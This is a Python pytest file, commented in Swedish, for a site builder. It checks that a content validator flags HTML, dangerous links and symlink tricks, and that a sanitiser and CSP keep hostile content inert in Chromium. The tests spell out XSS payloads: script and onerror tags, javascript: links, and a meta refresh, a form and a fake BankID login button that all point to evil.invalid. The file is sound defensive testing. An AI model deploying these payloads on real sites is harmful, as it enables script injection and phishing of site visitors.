"""Innehåll är data, aldrig kod.

Två skydd testas var för sig:

1. ``check`` stoppar HTML och farliga länkar i varje fälttyp, med fil och rad (Python, snabbt), också
   de vägar förbi kontrollen som granskningen i december 2026 hittade (escapade bakåtapostrofer, ett
   indraget ```, referenslänkar, java<radbrytning>script:, NUL, riktningstecken, 700 nivåer lista,
   dubbla id:n i mallen, symboliska länkar).
2. Om något ändå skulle slinka igenom är det ofarligt: en kopia av innehållet med fientliga värden
   i varje fälttyp byggs förbi ``check`` (modellen ändras direkt), men med kroken som tvättar sidornas
   HTML (build_tools/html_guard.py). Ingen fientlig tagg, inget attribut och ingen farlig länk finns i
   sidorna. I Chromium körs inget, ingen sida byter adress, inget anrop lämnar sajten och titlarna
   visas som vanlig text: med sajtens Content-Security-Policy och även utan den (tvätten ensam).
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest

from build_tools.adapters.node_data import write_node_data
from build_tools.base.diagnostics import Report
from build_tools.base.url_rule import safe_url
from build_tools.devtools.site_server import ROOT, ServedSite, mkdocs_build, reserve_server, start
from build_tools.domain.model import Contact, Outcome, Question
from build_tools.load.project import Layout, load_project
from build_tools.render.site import write_site
from tests.content import TEST_DAY, real_project

# Varje nyttolast försöker sätta window.__pwned eller hämta något från en annan värd.
SCRIPT = "<script>window.__pwned = 'script'</script>"
IMG = '<img src="data:," onerror="window.__pwned = \'img\'">'
BREAKOUT = '"><svg onload="window.__pwned = \'svg\'"></svg>'
TITLE_BREAKOUT = "</title><script>window.__pwned = 'title'</script>"
IFRAME = '<iframe src="https://example.com/ram"></iframe>'
JS_LINK = "[klicka här](javascript:window.__pwned='link')"
HOSTILE_TITLE = "Elev <b>avstängd</b> " + IMG + TITLE_BREAKOUT
# Vägarna förbi den gamla kontrollen (granskningen 2026-12-06, H1): de ska vara ofarliga även förbi check.
ESCAPED_REFRESH = '\\`<meta http-equiv="refresh" content="0;url=https://evil.invalid/">\\`'
REFERRER = '<meta name="referrer" content="unsafe-url">'
BUTTON = '<a class="md-button md-button--primary" href="https://evil.invalid/">Logga in med BankID</a>'
FORM = '<form action="https://evil.invalid/"><input name="pnr"><button>Skicka</button></form>'
REFERENCE_LINK = "[referenslänk][r]\n\n[r]: javascript:window.__pwned='ref'"
INDENTED_FENCE = "    ```"
HOSTILE_MARKDOWN = (
    f"Text före.\n\n{SCRIPT}\n\n{IMG}\n\n{IFRAME}\n\n{JS_LINK}\n\n{BREAKOUT}\n\n{ESCAPED_REFRESH}\n\n"
    f"{INDENTED_FENCE}\n\n{REFERRER}\n\n{BUTTON}\n\n{FORM}\n\n{REFERENCE_LINK}\n\nNUL:\x00:slut \u202eRLO\u202c\n"
)


# ---- 1. check säger ifrån, med fil och rad ----


def _copy_content(tmp_path: Path) -> Path:
    root = tmp_path / "innehall"
    for folder in ("decision_trees", "data", "guides", "docs"):
        shutil.copytree(ROOT / folder, root / folder)
    return root


INJECTIONS = [
    # (fil, text som ersätts (första förekomsten), ny text, förväntad kod)
    (
        "decision_trees/elev-avstangd.yaml",
        re.compile(r"^titel: .*$", re.M),
        "titel: 'Titel <img src=x onerror=alert(1)>'",
        "html",
    ),
    (
        "decision_trees/elev-avstangd.yaml",
        re.compile(r"^beskrivning: >-\n  ", re.M),
        'beskrivning: >-\n  "><script>alert(1)</script> ',
        "html",
    ),
    (
        "decision_trees/elev-avstangd.yaml",
        re.compile(r"^(\s+)fraga: .*$", re.M),
        r"\1fraga: 'Fråga <script>alert(1)</script>'",
        "html",
    ),
    (
        "decision_trees/elev-avstangd.yaml",
        re.compile(r"^(\s+)steg:\n(\s+)- .*$", re.M),
        r"\1steg:\n\2- '[klick](javascript:alert(1))'",
        "farlig-lank",
    ),
    (
        "data/stadsdelar.yaml",
        re.compile(r"^(\s+)varde: https://.*$", re.M),
        r"\1varde: 'javascript:alert(document.domain)'",
        "farlig-lank",
    ),
    (
        "data/ordlista.yaml",
        re.compile(r"^(\s+)forklaring: >-\n(\s+)", re.M),
        r"\1forklaring: >-\n\2<iframe src=https://example.com></iframe> ",
        "html",
    ),
    (
        "data/ovningsfall.yaml",
        re.compile(r"^(\s+)scenario: [>|]-?\n(\s+)", re.M),
        r"\1scenario: >-\n\2<a href=x onclick=alert(1)>x</a> ",
        "html",
    ),
    ("guides/stod/bus.md", re.compile(r"^## ", re.M), "<script>alert(1)</script>\n\n## ", "html"),
    ("guides/stod/bus.md", re.compile(r'^beskrivning: "', re.M), 'beskrivning: "<script>alert(1)</script> ', "html"),
    ("docs/om.md", re.compile(r"^## ", re.M), "[x](vbscript:msgbox)\n\n## ", "farlig-lank"),
    # Vägarna förbi den gamla kontrollen, i alla tre sorters sidor.
    ("guides/stod/bus.md", re.compile(r"^## ", re.M), ESCAPED_REFRESH + "\n\n## ", "html"),
    ("guides/roller/larare.md", re.compile(r"^## ", re.M), "    ```\n\n<img src=x onerror=alert(1)>\n\n## ", "html"),
    ("docs/om.md", re.compile(r"^## ", re.M), "[länk][r]\n\n[r]: javascript:alert(1)\n\n## ", "farlig-lank"),
    ("docs/om.md", re.compile(r"^## ", re.M), "\\`" + REFERRER + "\\`\n\n## ", "html"),
    ("guides/roller/larare.md", re.compile(r"^## ", re.M), BUTTON + "\n\n## ", "html"),
    ("guides/stod/bus.md", re.compile(r"^## ", re.M), "a\x00b\n\n## ", "styrtecken"),
    ("guides/stod/bus.md", re.compile(r"^## ", re.M), "Ring \u202e211 etni\u202c.\n\n## ", "riktningstecken"),
    (
        "decision_trees/elev-avstangd.yaml",
        re.compile(r"^titel: .*$", re.M),
        'titel: "Ring \u202e211"',
        "riktningstecken",
    ),
    (
        "data/stadsdelar.yaml",
        re.compile(r"^(\s+)varde: https://.*$", re.M),
        r'\1varde: "java\\nscript:alert(1)"',
        "farlig-lank",
    ),
    (
        "data/overenskommelse_mall.yaml",
        re.compile(r"^  - id: giltighetstid$", re.M),
        "  - id: parter",
        "dubblett-mall-id",
    ),
]


@pytest.mark.parametrize(
    ("file", "pattern", "replacement", "code"), INJECTIONS, ids=[f"{i[0]}:{i[3]}" for i in INJECTIONS]
)
def test_check_reports_html_and_dangerous_links_with_file_and_line(tmp_path, file, pattern, replacement, code):
    root = _copy_content(tmp_path)
    path = root / file
    text = path.read_text(encoding="utf-8")
    changed, count = pattern.subn(replacement, text, count=1)
    assert count == 1, f"mönstret hittades inte i {file}"
    path.write_text(changed, encoding="utf-8")
    start = pattern.search(text).start()
    expected_line = text.count("\n", 0, start) + 1
    _, report = load_project(Layout(root), TEST_DAY)
    found = [d for d in report.errors if d.code == code and d.location.path == path]
    assert found, [d.format(root) for d in report.errors]
    # Felet pekar på raden med det fientliga värdet (eller raden efter en nyckel med blocktext).
    assert any(expected_line <= d.location.line <= expected_line + 2 for d in found), [
        (d.location.line, expected_line) for d in found
    ]


def test_a_700_level_list_is_an_error_within_seconds(tmp_path):
    root = _copy_content(tmp_path)
    path = root / "guides" / "stod" / "bus.md"
    text = path.read_text(encoding="utf-8")
    path.write_text(text + "\n" + "\n".join("    " * i + "- nivå" for i in range(700)) + "\n", encoding="utf-8")
    _, report = load_project(Layout(root), TEST_DAY)
    first = text.count("\n") + 2  # listans första rad; felet gäller den 21:a nivån
    assert [(d.code, d.location.path, d.location.line) for d in report.errors] == [("markdown-djup", path, first + 20)]


def test_a_symlink_to_a_file_outside_is_refused_and_not_quoted(tmp_path):
    root = _copy_content(tmp_path)
    secret = tmp_path / "hemlig.txt"
    secret.write_text("root:x:0:0:hemlig-rad:/root:/bin/bash\n" * 40, encoding="utf-8")
    for link in (root / "docs" / "passwd.txt", root / "decision_trees" / "passwd.yaml", root / "data" / "x.yaml"):
        link.symlink_to(secret)
    _, report = load_project(Layout(root), TEST_DAY)
    assert sorted(d.location.path.name for d in report.errors if d.code == "inte-vanlig-fil") == [
        "passwd.txt", "passwd.yaml", "x.yaml"
    ]  # fmt: skip
    assert "hemlig-rad" not in "\n".join(d.format(root) for d in report.items)


# ---- 2. Det som ändå skulle slinka igenom är ofarligt ----


def _hostile_project():
    """Det riktiga innehållet, med fientliga värden i varje fälttyp som hamnar på en sida."""
    project = dataclasses.replace(real_project())
    tree = project.trees["elev-avstangd"]
    nodes = {}
    for node in tree.nodes.values():
        if isinstance(node, Question):
            answers = tuple(
                dataclasses.replace(a, label=a.label + " " + IMG, explanation=BREAKOUT) for a in node.answers
            )
            nodes[node.id] = dataclasses.replace(
                node, text=node.text + " " + IMG, help=HOSTILE_MARKDOWN, answers=answers, unverified=(SCRIPT,)
            )
        else:
            assert isinstance(node, Outcome)
            nodes[node.id] = dataclasses.replace(
                node, title=HOSTILE_TITLE, body=HOSTILE_MARKDOWN, steps=(JS_LINK, IMG), unverified=(BREAKOUT,)
            )
    project.trees = dict(project.trees)
    project.trees[tree.id] = dataclasses.replace(
        tree, title=HOSTILE_TITLE, description=BREAKOUT + TITLE_BREAKOUT, intro=HOSTILE_MARKDOWN, nodes=nodes
    )
    project.chapters = [
        dataclasses.replace(c, title=HOSTILE_TITLE, description=BREAKOUT, body=c.body + "\n\n" + HOSTILE_MARKDOWN)
        if c.slug == "bus"
        else c
        for c in project.chapters
    ]
    project.cases = [
        dataclasses.replace(c, title=HOSTILE_TITLE, scenario=HOSTILE_MARKDOWN) if i == 0 else c
        for i, c in enumerate(project.cases)
    ]
    evil = Contact(
        kind="webb",
        function="mottagning",
        description=IMG,
        value="javascript:window.__pwned='contact'",
        status="verifierad",
        source=BREAKOUT,
        checked=dt.date(2026, 1, 1),
        # Förbi kontrollen i check/contact_values.py: värdet hamnar ändå i en länk på sidan.
        text=IMG,
        href="javascript:window.__pwned='contact'",
    )
    project.districts = [
        dataclasses.replace(d, name=d.name + " " + IMG, contacts=(evil, *d.contacts)) if i == 0 else d
        for i, d in enumerate(project.districts)
    ]
    newline = dataclasses.replace(
        evil, value="java\nscript:window.__pwned='newline'", href="java\nscript:window.__pwned='newline'"
    )
    project.city_contacts = [evil, newline, *project.city_contacts]
    return project


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> ServedSite:
    root = tmp_path_factory.mktemp("fientlig")
    shutil.copytree(ROOT / "docs", root / "docs")
    with (root / "docs" / "om.md").open("a", encoding="utf-8") as handwritten:
        handwritten.write("\n\n" + HOSTILE_MARKDOWN)
    write_site(_hostile_project(), Layout(root))
    # Samma konfiguration som sajten, men med en krok som bara tvättar sidorna: kontrollen av innehållet
    # (on_config i build_tools/mkdocs_hooks.py) körs inte, så det fientliga innehållet når MkDocs.
    config = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
    config = re.sub(r"(?m)^hooks:\n(  - .*\n)+", "hooks:\n  - bara_tvatten.py\n", config)
    config = re.sub(r"(?ms)^watch:\n(  - .*?\n)+", "", config)
    config = config.replace("custom_dir: overrides", f"custom_dir: {ROOT / 'overrides'}")
    (root / "mkdocs.yml").write_text(config, encoding="utf-8")
    (root / "bara_tvatten.py").write_text(
        f"import sys\nsys.path.insert(0, {str(ROOT)!r})\n"
        "from build_tools.adapters.mkdocs_hooks import on_page_content, on_page_markdown  # noqa: F401\n",
        encoding="utf-8",
    )
    site = reserve_server(root / "site")
    mkdocs_build(root / "mkdocs.yml", root / "site", site.base_url)
    write_node_data(root / "site", _hostile_project())  # det kroken annars gör efter bygget (svar på plats)
    start(site)
    yield site
    site.stop()


class _Tags(HTMLParser):
    """Alla starttaggar i en sida, med attribut (som webbläsaren läser dem: entiteter avkodade)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def _what_can_act(page_html: str) -> list[str]:
    parser = _Tags()
    parser.feed(page_html)
    found = []
    for tag, attrs in parser.tags:
        found += [f"{tag} {name}" for name in attrs if name.startswith("on")]
        found += [
            f"{tag} {name}={attrs[name]!r}"
            for name in ("href", "src", "action")
            if name in attrs and safe_url(attrs[name]) is None
        ]
        if tag == "meta" and ("http-equiv" in attrs and attrs["http-equiv"].lower() != "content-security-policy"):
            found.append(f"meta http-equiv={attrs['http-equiv']}")
        if tag == "meta" and attrs.get("name") == "referrer" and attrs.get("content") != "no-referrer":
            found.append("meta referrer " + attrs.get("content", ""))
        if tag in ("iframe", "object", "embed", "base") or (
            tag == "script" and not ("src" in attrs or attrs.get("type") == "application/json")
        ):
            found.append(tag)
        if "evil.invalid" in attrs.get("action", "") or ("evil.invalid" in attrs.get("href", "") and "class" in attrs):
            found.append(f"{tag} till evil.invalid med {attrs}")
    return found


def test_the_payloads_reach_the_build_but_not_the_pages(hostile_site):
    source = (hostile_site.directory.parent / "build" / "docs" / "stod" / "bus" / "index.md").read_text(
        encoding="utf-8"
    )
    assert "<script>window.__pwned" in source and ESCAPED_REFRESH in source  # förbi check, rakt in i MkDocs
    pages = sorted(hostile_site.directory.rglob("*.html"))
    assert len(pages) > 100
    for path in pages:
        text = path.read_text(encoding="utf-8")
        assert "\x00" not in text and "<script>window.__pwned" not in text, path
        assert _what_can_act(text) == [], path
    bus = (hostile_site.directory / "stod" / "bus" / "index.html").read_text(encoding="utf-8")
    assert "Logga in med BankID" in bus and "NUL::slut" in bus  # texten står kvar, som text


PAGES = [
    "/beslutsstod/elev-avstangd/",
    "/beslutsstod/elev-avstangd/{start}/#svar=",
    "/beslutsstod/elev-avstangd/{outcome}/",
    "/stod/bus/",
    "/om/",
    "/ovningsfall/{case}/",
    "/stadsdelar/",
    "/stadsdelar/{district}/",
]


@pytest.mark.browser
def test_hostile_content_is_inert_under_the_sites_policy(page, hostile_site, requests_log):
    project = _hostile_project()
    tree = project.trees["elev-avstangd"]
    outcome = next(n for n in tree.nodes.values() if isinstance(n, Outcome) and n.show_contacts)
    values = {"start": tree.start, "outcome": outcome.id, "case": project.cases[0].id, "district": ""}
    values["district"] = project.districts[0].slug
    _visit_and_click(page, hostile_site, values)
    # Titeln visas som text, i rubriken och i fönstrets titel.
    page.goto(hostile_site.base_url + f"/beslutsstod/elev-avstangd/{outcome.id}/")
    assert "<img" in page.locator(".md-content h1").inner_text()
    assert "<img" in page.title() and "</title>" in page.title()
    # Sökningen visar titeln som text, och inget körs när träffarna ritas.
    page.locator("label.md-search__icon, .md-search__input").first.click()
    page.keyboard.type("avstängd")
    page.wait_for_selector(".md-search-result__item", timeout=10_000)
    assert page.evaluate("() => window.__pwned") is None
    # Skript som CSP stoppade syns som konsolfel: det är just de som testas här.
    page.js_errors[:] = [  # type: ignore[attr-defined]
        e
        for e in page.js_errors
        if "Content Security Policy" not in e  # type: ignore[attr-defined]
    ]
    # Inget anrop lämnade sajten (iframe, bilder): vakten i conftest kräver requests_log.foreign == [].
    assert requests_log.all


def _visit_and_click(page, site: ServedSite, values: dict[str, str]) -> None:
    for url in PAGES:
        page.goto(site.base_url + url.format(**values))
        page.wait_for_load_state("networkidle")
        for link in page.locator("a[href^='javascript:' i], a[href*='script:' i]").all():
            link.click(force=True, no_wait_after=True)
        assert page.evaluate("() => window.__pwned") is None, url
        assert page.url.startswith(site.base_url), url  # ingen meta refresh till en annan webbplats
        assert page.locator("meta[http-equiv='refresh' i], meta[name='referrer'][content='unsafe-url']").count() == 0


@pytest.mark.browser
def test_the_sanitiser_alone_makes_the_content_inert(page, hostile_site, requests_log):
    """Samma sidor utan Content-Security-Policy: tvätten ensam räcker."""

    def without_policy(route):
        if route.request.resource_type != "document":
            route.fallback()
            return
        response = route.fetch()
        body = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", response.text())
        route.fulfill(response=response, body=body)

    page.route("**/*", without_policy)
    project = _hostile_project()
    tree = project.trees["elev-avstangd"]
    outcome = next(n for n in tree.nodes.values() if isinstance(n, Outcome) and n.show_contacts)
    values = {"start": tree.start, "outcome": outcome.id, "case": project.cases[0].id}
    values["district"] = project.districts[0].slug
    _visit_and_click(page, hostile_site, values)
    assert page.locator("meta[http-equiv='Content-Security-Policy']").count() == 0  # policyn var borta
    assert requests_log.all


def test_check_would_have_stopped_every_payload():
    """Samma nyttolaster som text i YAML: varje fälttyp ger ett fel i check."""
    from build_tools.source.yaml_source import parse_yaml

    payloads = (SCRIPT, IMG, BREAKOUT, TITLE_BREAKOUT, IFRAME, JS_LINK, "javascript:alert(1)", ESCAPED_REFRESH)
    for payload in (*payloads, REFERRER, BUTTON, FORM, REFERENCE_LINK.replace("\n\n", "\n\n  ")):
        report = Report()
        parse_yaml("titel: |\n  " + payload + "\n", Path("x.yaml"), report)
        assert [d.code for d in report.errors] and {d.code for d in report.errors} <= {"html", "farlig-lank"}, payload
